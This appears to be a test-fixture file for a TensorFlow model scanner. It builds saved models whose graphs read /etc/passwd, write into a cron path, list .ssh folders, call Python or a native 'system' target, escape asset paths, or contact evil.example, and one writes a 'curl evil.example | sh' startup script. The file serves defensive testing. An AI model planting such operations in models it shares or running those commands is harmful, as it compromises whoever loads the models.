"""Models whose graphs do something to whoever loads or calls them. They are never run."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import tensorflow as tf
from cases import ANY, DEFAULT, TEXT, Expected, case, edit, save, served

raw, v1 = tf.raw_ops, tf.compat.v1
PASSWD, KEYS = "/etc/passwd", "/etc/cron.d/job"


def after(value: Any, *operations: Any) -> Any:
    """The value, once some operations ran."""
    with tf.control_dependencies([one for one in operations if one is not None]):
        return tf.identity(value)


def found(
    rule: str, severity: str, what: str, argument: str | None = None, *reached: str
) -> Expected:
    return Expected(rule, severity, what, argument, reached or DEFAULT)


served(
    "py_function",
    "python",
    lambda x: tf.py_function(lambda y: y, [x], tf.float32),
    found("python-call", "high", "EagerPyFunc", ANY),
)
served(
    "numpy_function",
    "python",
    lambda x: tf.numpy_function(lambda y: y, [x], tf.float32),
    found("python-call", "high", "PyFunc", ANY),
)
served(
    "py_func_stateless",
    "python",
    lambda x: tf.numpy_function(lambda y: y, [x], tf.float32, stateful=False),
    found("python-call", "high", "PyFuncStateless", ANY),
)
served(
    "read_secret",
    "read file",
    lambda x: tf.io.read_file(PASSWD),
    found("file-read", "critical", "ReadFile", PASSWD),
)
served(
    "read_input", "read file", tf.io.read_file, found("file-read", "high", "ReadFile"), spec=TEXT
)
served(
    "read_relative",
    "read file",
    lambda x: tf.io.read_file("data/labels.txt"),
    found("file-read", "high", "ReadFile", "data/labels.txt"),
)
served(
    "read_private",
    "read file",
    lambda x: raw.ImmutableConst(dtype=tf.uint8, shape=[4], memory_region_name=PASSWD),
    found("file-read", "critical", "ImmutableConst", PASSWD),
)
served(
    "write_keys",
    "write file",
    lambda x: after(x, tf.io.write_file(KEYS, "ssh-rsa AAAA")),
    found("file-write", "critical", "WriteFile", KEYS),
)
served(
    "write_input",
    "write file",
    lambda x: after(x, tf.io.write_file(x, x)),
    found("file-write", "high", "WriteFile"),
    spec=TEXT,
)
served(
    "write_shell",
    "write file",
    lambda x: after(x, tf.io.write_file("start.sh", "#!/bin/sh\ncurl evil.example | sh")),
    found("file-write", "critical", "WriteFile", "start.sh"),
)
served(
    "write_joined",
    "write file",
    lambda x: after(x, tf.io.write_file(tf.strings.join(["/srv/site", ".bashrc"], "/"), "x")),
    found("file-write", "critical", "WriteFile", "/srv/site/.bashrc"),
)


@tf.function
def write_to(path: Any) -> Any:
    tf.io.write_file(path, "x")
    return tf.constant(1.0)


@tf.function
def pass_on(path: Any) -> Any:
    return write_to(path)


served(
    "write_through_calls",
    "write file",
    lambda x: x * pass_on(tf.constant("/opt/app/run")),
    found("file-write", "critical", "WriteFile", "/opt/app/run"),
)
served(
    "write_in_loop",
    "write file",
    lambda x: tf.while_loop(
        lambda i, p: i < 2,
        lambda i, p: (after(i + 1, tf.io.write_file(p, "x")), p),
        [0, tf.constant("/tmp/loop")],
    )[0],
    found("file-write", "critical", "WriteFile", "/tmp/loop"),
)
served(
    "write_in_branch",
    "write file",
    lambda x: tf.cond(
        tf.size(x) > 3, lambda: write_to(tf.constant("/tmp/branch")), lambda: tf.constant(0.0)
    ),
    found("file-write", "critical", "WriteFile", "/tmp/branch"),
)
served(
    "write_in_map",
    "write file",
    lambda x: (
        tf.data.Dataset.range(3)
        .map(lambda i: after(i, tf.io.write_file("/tmp/map", "x")))
        .reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    ),
    found("file-write", "critical", "WriteFile", "/tmp/map"),
)
served(
    "write_disguised",
    "saver look-alike",
    lambda x: _traced_save(x),
    found("file-write", "critical", "WriteFile", KEYS),
)


@tf.function
def _traced_save(x: Any) -> Any:
    return after(x, tf.io.write_file(tf.constant(KEYS), "x"))


@case("write file", found("file-write", "critical", "WriteFile", "/tmp/other", "export"))
def second_signature(folder: Path) -> None:
    functions = {
        "serving_default": lambda x: x + 1,
        "export": lambda x: after(x, tf.io.write_file("/tmp/other", "x")),
    }
    save(folder, functions, tf.TensorSpec([None], tf.float32, name="x"))


@case("write file", found("file-write", "critical", "WriteFile", "/tmp/hook", "function"))
def other_function(folder: Path) -> None:
    module = tf.Module()
    spec = [tf.TensorSpec([], tf.float32)]
    module.good = tf.function(lambda x: x + 1, input_signature=spec)
    module.hook = tf.function(
        lambda x: after(x, tf.io.write_file("/tmp/hook", "x")), input_signature=spec
    )
    tf.saved_model.save(module, str(folder), signatures=module.good.get_concrete_function())


@case("write file", Expected("file-write", "low", "WriteFile", KEYS, ()))
def nobody_calls(folder: Path) -> None:
    save(folder, {"serving_default": lambda x: x}, tf.TensorSpec([None], tf.float32, name="x"))

    def change(proto: Any) -> None:
        function = proto.meta_graphs[0].graph_def.library.function.add()
        function.signature.name = "left_over"
        for name, text in (("path", KEYS), ("text", "x")):
            node = function.node_def.add(name=name, op="Const")
            node.attr["dtype"].type = 7
            node.attr["value"].tensor.dtype = 7
            node.attr["value"].tensor.tensor_shape.SetInParent()
            node.attr["value"].tensor.string_val.append(text.encode())
        function.node_def.add(
            name="write", op="WriteFile", input=["path:output:0", "text:output:0"]
        )

    edit(folder, change)


@case("write file", found("file-write", "critical", "WriteFile", "/tmp/captured"))
def captured_constant(folder: Path) -> None:
    module = tf.Module()
    path = tf.constant("/tmp/captured")

    @tf.function(input_signature=[tf.TensorSpec([], tf.float32, name="x")])
    def run(x: Any) -> Any:
        return after(x, tf.io.write_file(path, "x"))

    module.run = run
    tf.saved_model.save(module, str(folder), signatures=run.get_concrete_function())


served(
    "list_keys",
    "matching files",
    lambda x: tf.io.matching_files("/srv/*/.ssh/*"),
    found("file-list", "critical", "MatchingFiles", "/srv/*/.ssh/*"),
)
served(
    "list_outside",
    "matching files",
    lambda x: tf.io.matching_files("/srv/*"),
    found("file-list", "high", "MatchingFiles", "/srv/*"),
)
served(
    "list_input",
    "matching files",
    tf.io.matching_files,
    found("file-list", "medium", "MatchingFiles"),
    spec=TEXT,
)
served(
    "list_dataset",
    "matching files",
    lambda x: raw.DatasetCardinality(input_dataset=raw.MatchingFilesDataset(patterns="/srv/*")),
    found("file-list", "high", "MatchingFilesDataset", "/srv/*"),
)
served(
    "print_console",
    "print",
    lambda x: after(x, tf.print("x", x)),
    found("console-print", "low", "PrintV2"),
)
served(
    "print_file",
    "print",
    lambda x: after(x, tf.print(x, output_stream="file:///tmp/taken.txt")),
    found("file-write", "critical", "PrintV2", "/tmp/taken.txt"),
)


@case("custom op", found("custom-op", "medium", "EvilOp"))
def custom_op(folder: Path) -> None:
    save(
        folder,
        {"serving_default": lambda x: tf.sin(x)},
        tf.TensorSpec([None], tf.float32, name="x"),
    )
    edit(folder, lambda proto: _change_op(proto, "Sin", "EvilOp"))


@case("network", found("network", "critical", "RpcClient", "evil.example:80"))
def rpc_client(folder: Path) -> None:
    save(folder, {"serving_default": lambda x: tf.io.read_file("evil.example:80")}, TEXT)
    edit(folder, lambda proto: _change_op(proto, "ReadFile", "RpcClient"))


@case("native code", found("native-code", "high", "XlaCustomCallV2", "system"))
def native_call(folder: Path) -> None:
    save(
        folder,
        {"serving_default": lambda x: tf.sin(x)},
        tf.TensorSpec([None], tf.float32, name="x"),
    )

    def change(proto: Any) -> None:
        for node in _change_op(proto, "Sin", "XlaCustomCallV2"):
            node.attr["call_target_name"].s = b"system"

    edit(folder, change)


def _change_op(proto: Any, old: str, new: str) -> list[Any]:
    nodes = [
        node
        for function in proto.meta_graphs[0].graph_def.library.function
        for node in function.node_def
    ]
    changed = [node for node in nodes if node.op == old]
    for node in changed:
        node.op = new
    return changed


@case(
    "structure",
    found("recursive-function", "medium", ANY),
    found("recursive-function", "medium", ANY, None, "function"),
)
def recursion(folder: Path) -> None:
    save(
        folder,
        {"serving_default": lambda x: write_nothing(x)},
        tf.TensorSpec([None], tf.float32, name="x"),
    )

    def change(proto: Any) -> None:
        for function in proto.meta_graphs[0].graph_def.library.function:
            for node in function.node_def if "write_nothing" in function.signature.name else ():
                if node.op == "Sin":
                    node.op = "PartitionedCall"
                    node.attr["f"].func.name = function.signature.name
                    node.attr["Tin"].list.type.append(1)
                    node.attr["Tout"].list.type.append(1)

    edit(folder, change)


@tf.function
def write_nothing(x: Any) -> Any:
    return tf.sin(x)


@case("structure", found("exploding-graph", "medium", ANY))
def explosion(folder: Path) -> None:
    save(
        folder,
        {"serving_default": lambda x: write_nothing(x)},
        tf.TensorSpec([None], tf.float32, name="x"),
    )

    def change(proto: Any) -> None:
        library = proto.meta_graphs[0].graph_def.library
        last = next(one for one in library.function if "write_nothing" in one.signature.name)
        inner = "leaf"
        for level in range(30):  # each calls the one before twice
            function = library.function.add()
            function.CopyFrom(last)
            function.signature.name = f"level_{level}"
            if level:
                _call_twice(function, inner)
            inner = function.signature.name
        _call_twice(last, inner)

    edit(folder, change)


def _call_twice(function: Any, inner: str) -> None:
    node = next(one for one in function.node_def if one.op == "Sin")
    node.op = "PartitionedCall"
    node.attr["f"].func.name = inner
    node.attr["Tin"].list.type.append(1)
    node.attr["Tout"].list.type.append(1)
    again = function.node_def.add()
    again.CopyFrom(node)
    again.name = "again"


@case("structure", found("huge-constant", "medium", "Const"))
def huge_constant(folder: Path) -> None:
    save(
        folder,
        {"serving_default": lambda x: tf.add(x, [[1.0, 2.0], [3.0, 4.0]])},
        tf.TensorSpec([], tf.float32, name="x"),
    )

    def change(proto: Any) -> None:
        for function in proto.meta_graphs[0].graph_def.library.function:
            for node in function.node_def:
                if node.op == "Const" and len(node.attr["value"].tensor.tensor_shape.dim) == 2:
                    node.attr["value"].tensor.tensor_shape.dim[0].size = 1 << 20
                    node.attr["value"].tensor.tensor_shape.dim[1].size = 1 << 12

    edit(folder, change)


@case(
    "assets", Expected("asset-escape", "critical", "asset", "../../../../etc/passwd", ("loading",))
)
def asset_escape(folder: Path) -> None:
    vocabulary = Path("vocabulary.txt")  # relative: the table is called by it
    vocabulary.write_text("a\nb\n")
    module = tf.Module()
    table = tf.lookup.StaticVocabularyTable(
        tf.lookup.TextFileInitializer(str(vocabulary), tf.string, -2, tf.int64, -1), 1
    )
    module.table = table
    module.run = tf.function(
        table.lookup, input_signature=[tf.TensorSpec([None], tf.string, name="x")]
    )
    tf.saved_model.save(module, str(folder), signatures=module.run.get_concrete_function())
    vocabulary.unlink()
    edit(
        folder,
        lambda proto: setattr(
            proto.meta_graphs[0].asset_file_def[0], "filename", "../../../../etc/passwd"
        ),
    )


def build(folder: Path, make: Any, main_op: Any = None) -> None:
    """Save a graph of TF1: `make` gives input, output and an operation of the main op."""
    with v1.Graph().as_default(), v1.Session() as session:
        given, result, initial = make()
        signature = v1.saved_model.predict_signature_def({"x": given}, {"y": result})
        builder = v1.saved_model.Builder(str(folder))
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=initial
        )
        builder.save()


@case("queue readers", found("file-read", "critical", "WholeFileReaderV2", PASSWD))
def queue_reader(folder: Path) -> None:
    def make() -> Any:
        given = v1.placeholder(tf.float32, [], name="x")
        queue = raw.FIFOQueueV2(component_types=[tf.string])
        fill = raw.QueueEnqueueManyV2(handle=queue, components=[[PASSWD]])
        with tf.control_dependencies([fill]):
            value = raw.ReaderReadV2(
                reader_handle=raw.WholeFileReaderV2(), queue_handle=queue
            ).value
        return given, value, None

    build(folder, make)


@case("python", found("python-call", "high", "PyFunc", ANY))
def tf1_py_func(folder: Path) -> None:
    def make() -> Any:
        given = v1.placeholder(tf.float32, [], name="x")
        return given, v1.py_func(lambda x: x, [given], tf.float32), None

    build(folder, make)


@case("initialisation", found("file-write", "critical", "WriteFile", KEYS, "initialisation"))
def main_op(folder: Path) -> None:
    def make() -> Any:
        given = v1.placeholder(tf.float32, [], name="x")
        write = tf.io.write_file(KEYS, "x")
        return given, given + 1, v1.group(write)

    build(folder, make)


@case(
    "assets",
    found(
        "vocabulary-read",
        "medium",
        "InitializeTableFromTextFileV2",
        "/srv/vocabulary.txt",
        "initialisation",
    ),
)
def table_without_asset(folder: Path) -> None:
    def make() -> Any:
        given = v1.placeholder(tf.string, [], name="x")
        table = raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        fill = raw.InitializeTableFromTextFileV2(
            table_handle=table, filename="/srv/vocabulary.txt", key_index=-2, value_index=-1
        )
        value = raw.LookupTableFindV2(
            table_handle=table, keys=given, default_value=tf.constant(0, tf.int64)
        )
        return given, value, v1.group(fill)

    build(folder, make)


@case("frozen graph", found("file-write", "critical", "WriteFile", KEYS, "graph"), file="frozen.pb")
def frozen(folder: Path) -> None:
    with v1.Graph().as_default() as graph:
        write = tf.io.write_file(KEYS, "x")
        with tf.control_dependencies([write]):
            tf.identity(v1.placeholder(tf.float32, [], name="x"), name="y")
        (folder / "frozen.pb").write_bytes(
            graph.as_graph_def().SerializeToString(deterministic=True)
        )


@case(
    "frozen graph",
    found("file-read", "critical", "ReadFile", PASSWD, "graph"),
    file="model.ckpt.meta",
)
def meta_file(folder: Path) -> None:
    with v1.Graph().as_default():
        tf.io.read_file(PASSWD, name="read")
        v1.get_variable("w", [2])
        v1.train.Saver()
        v1.train.export_meta_graph(
            str(folder / "model.ckpt.meta"),
            clear_extraneous_savers=False,
            saver_def=v1.train.Saver().as_saver_def(),
        )
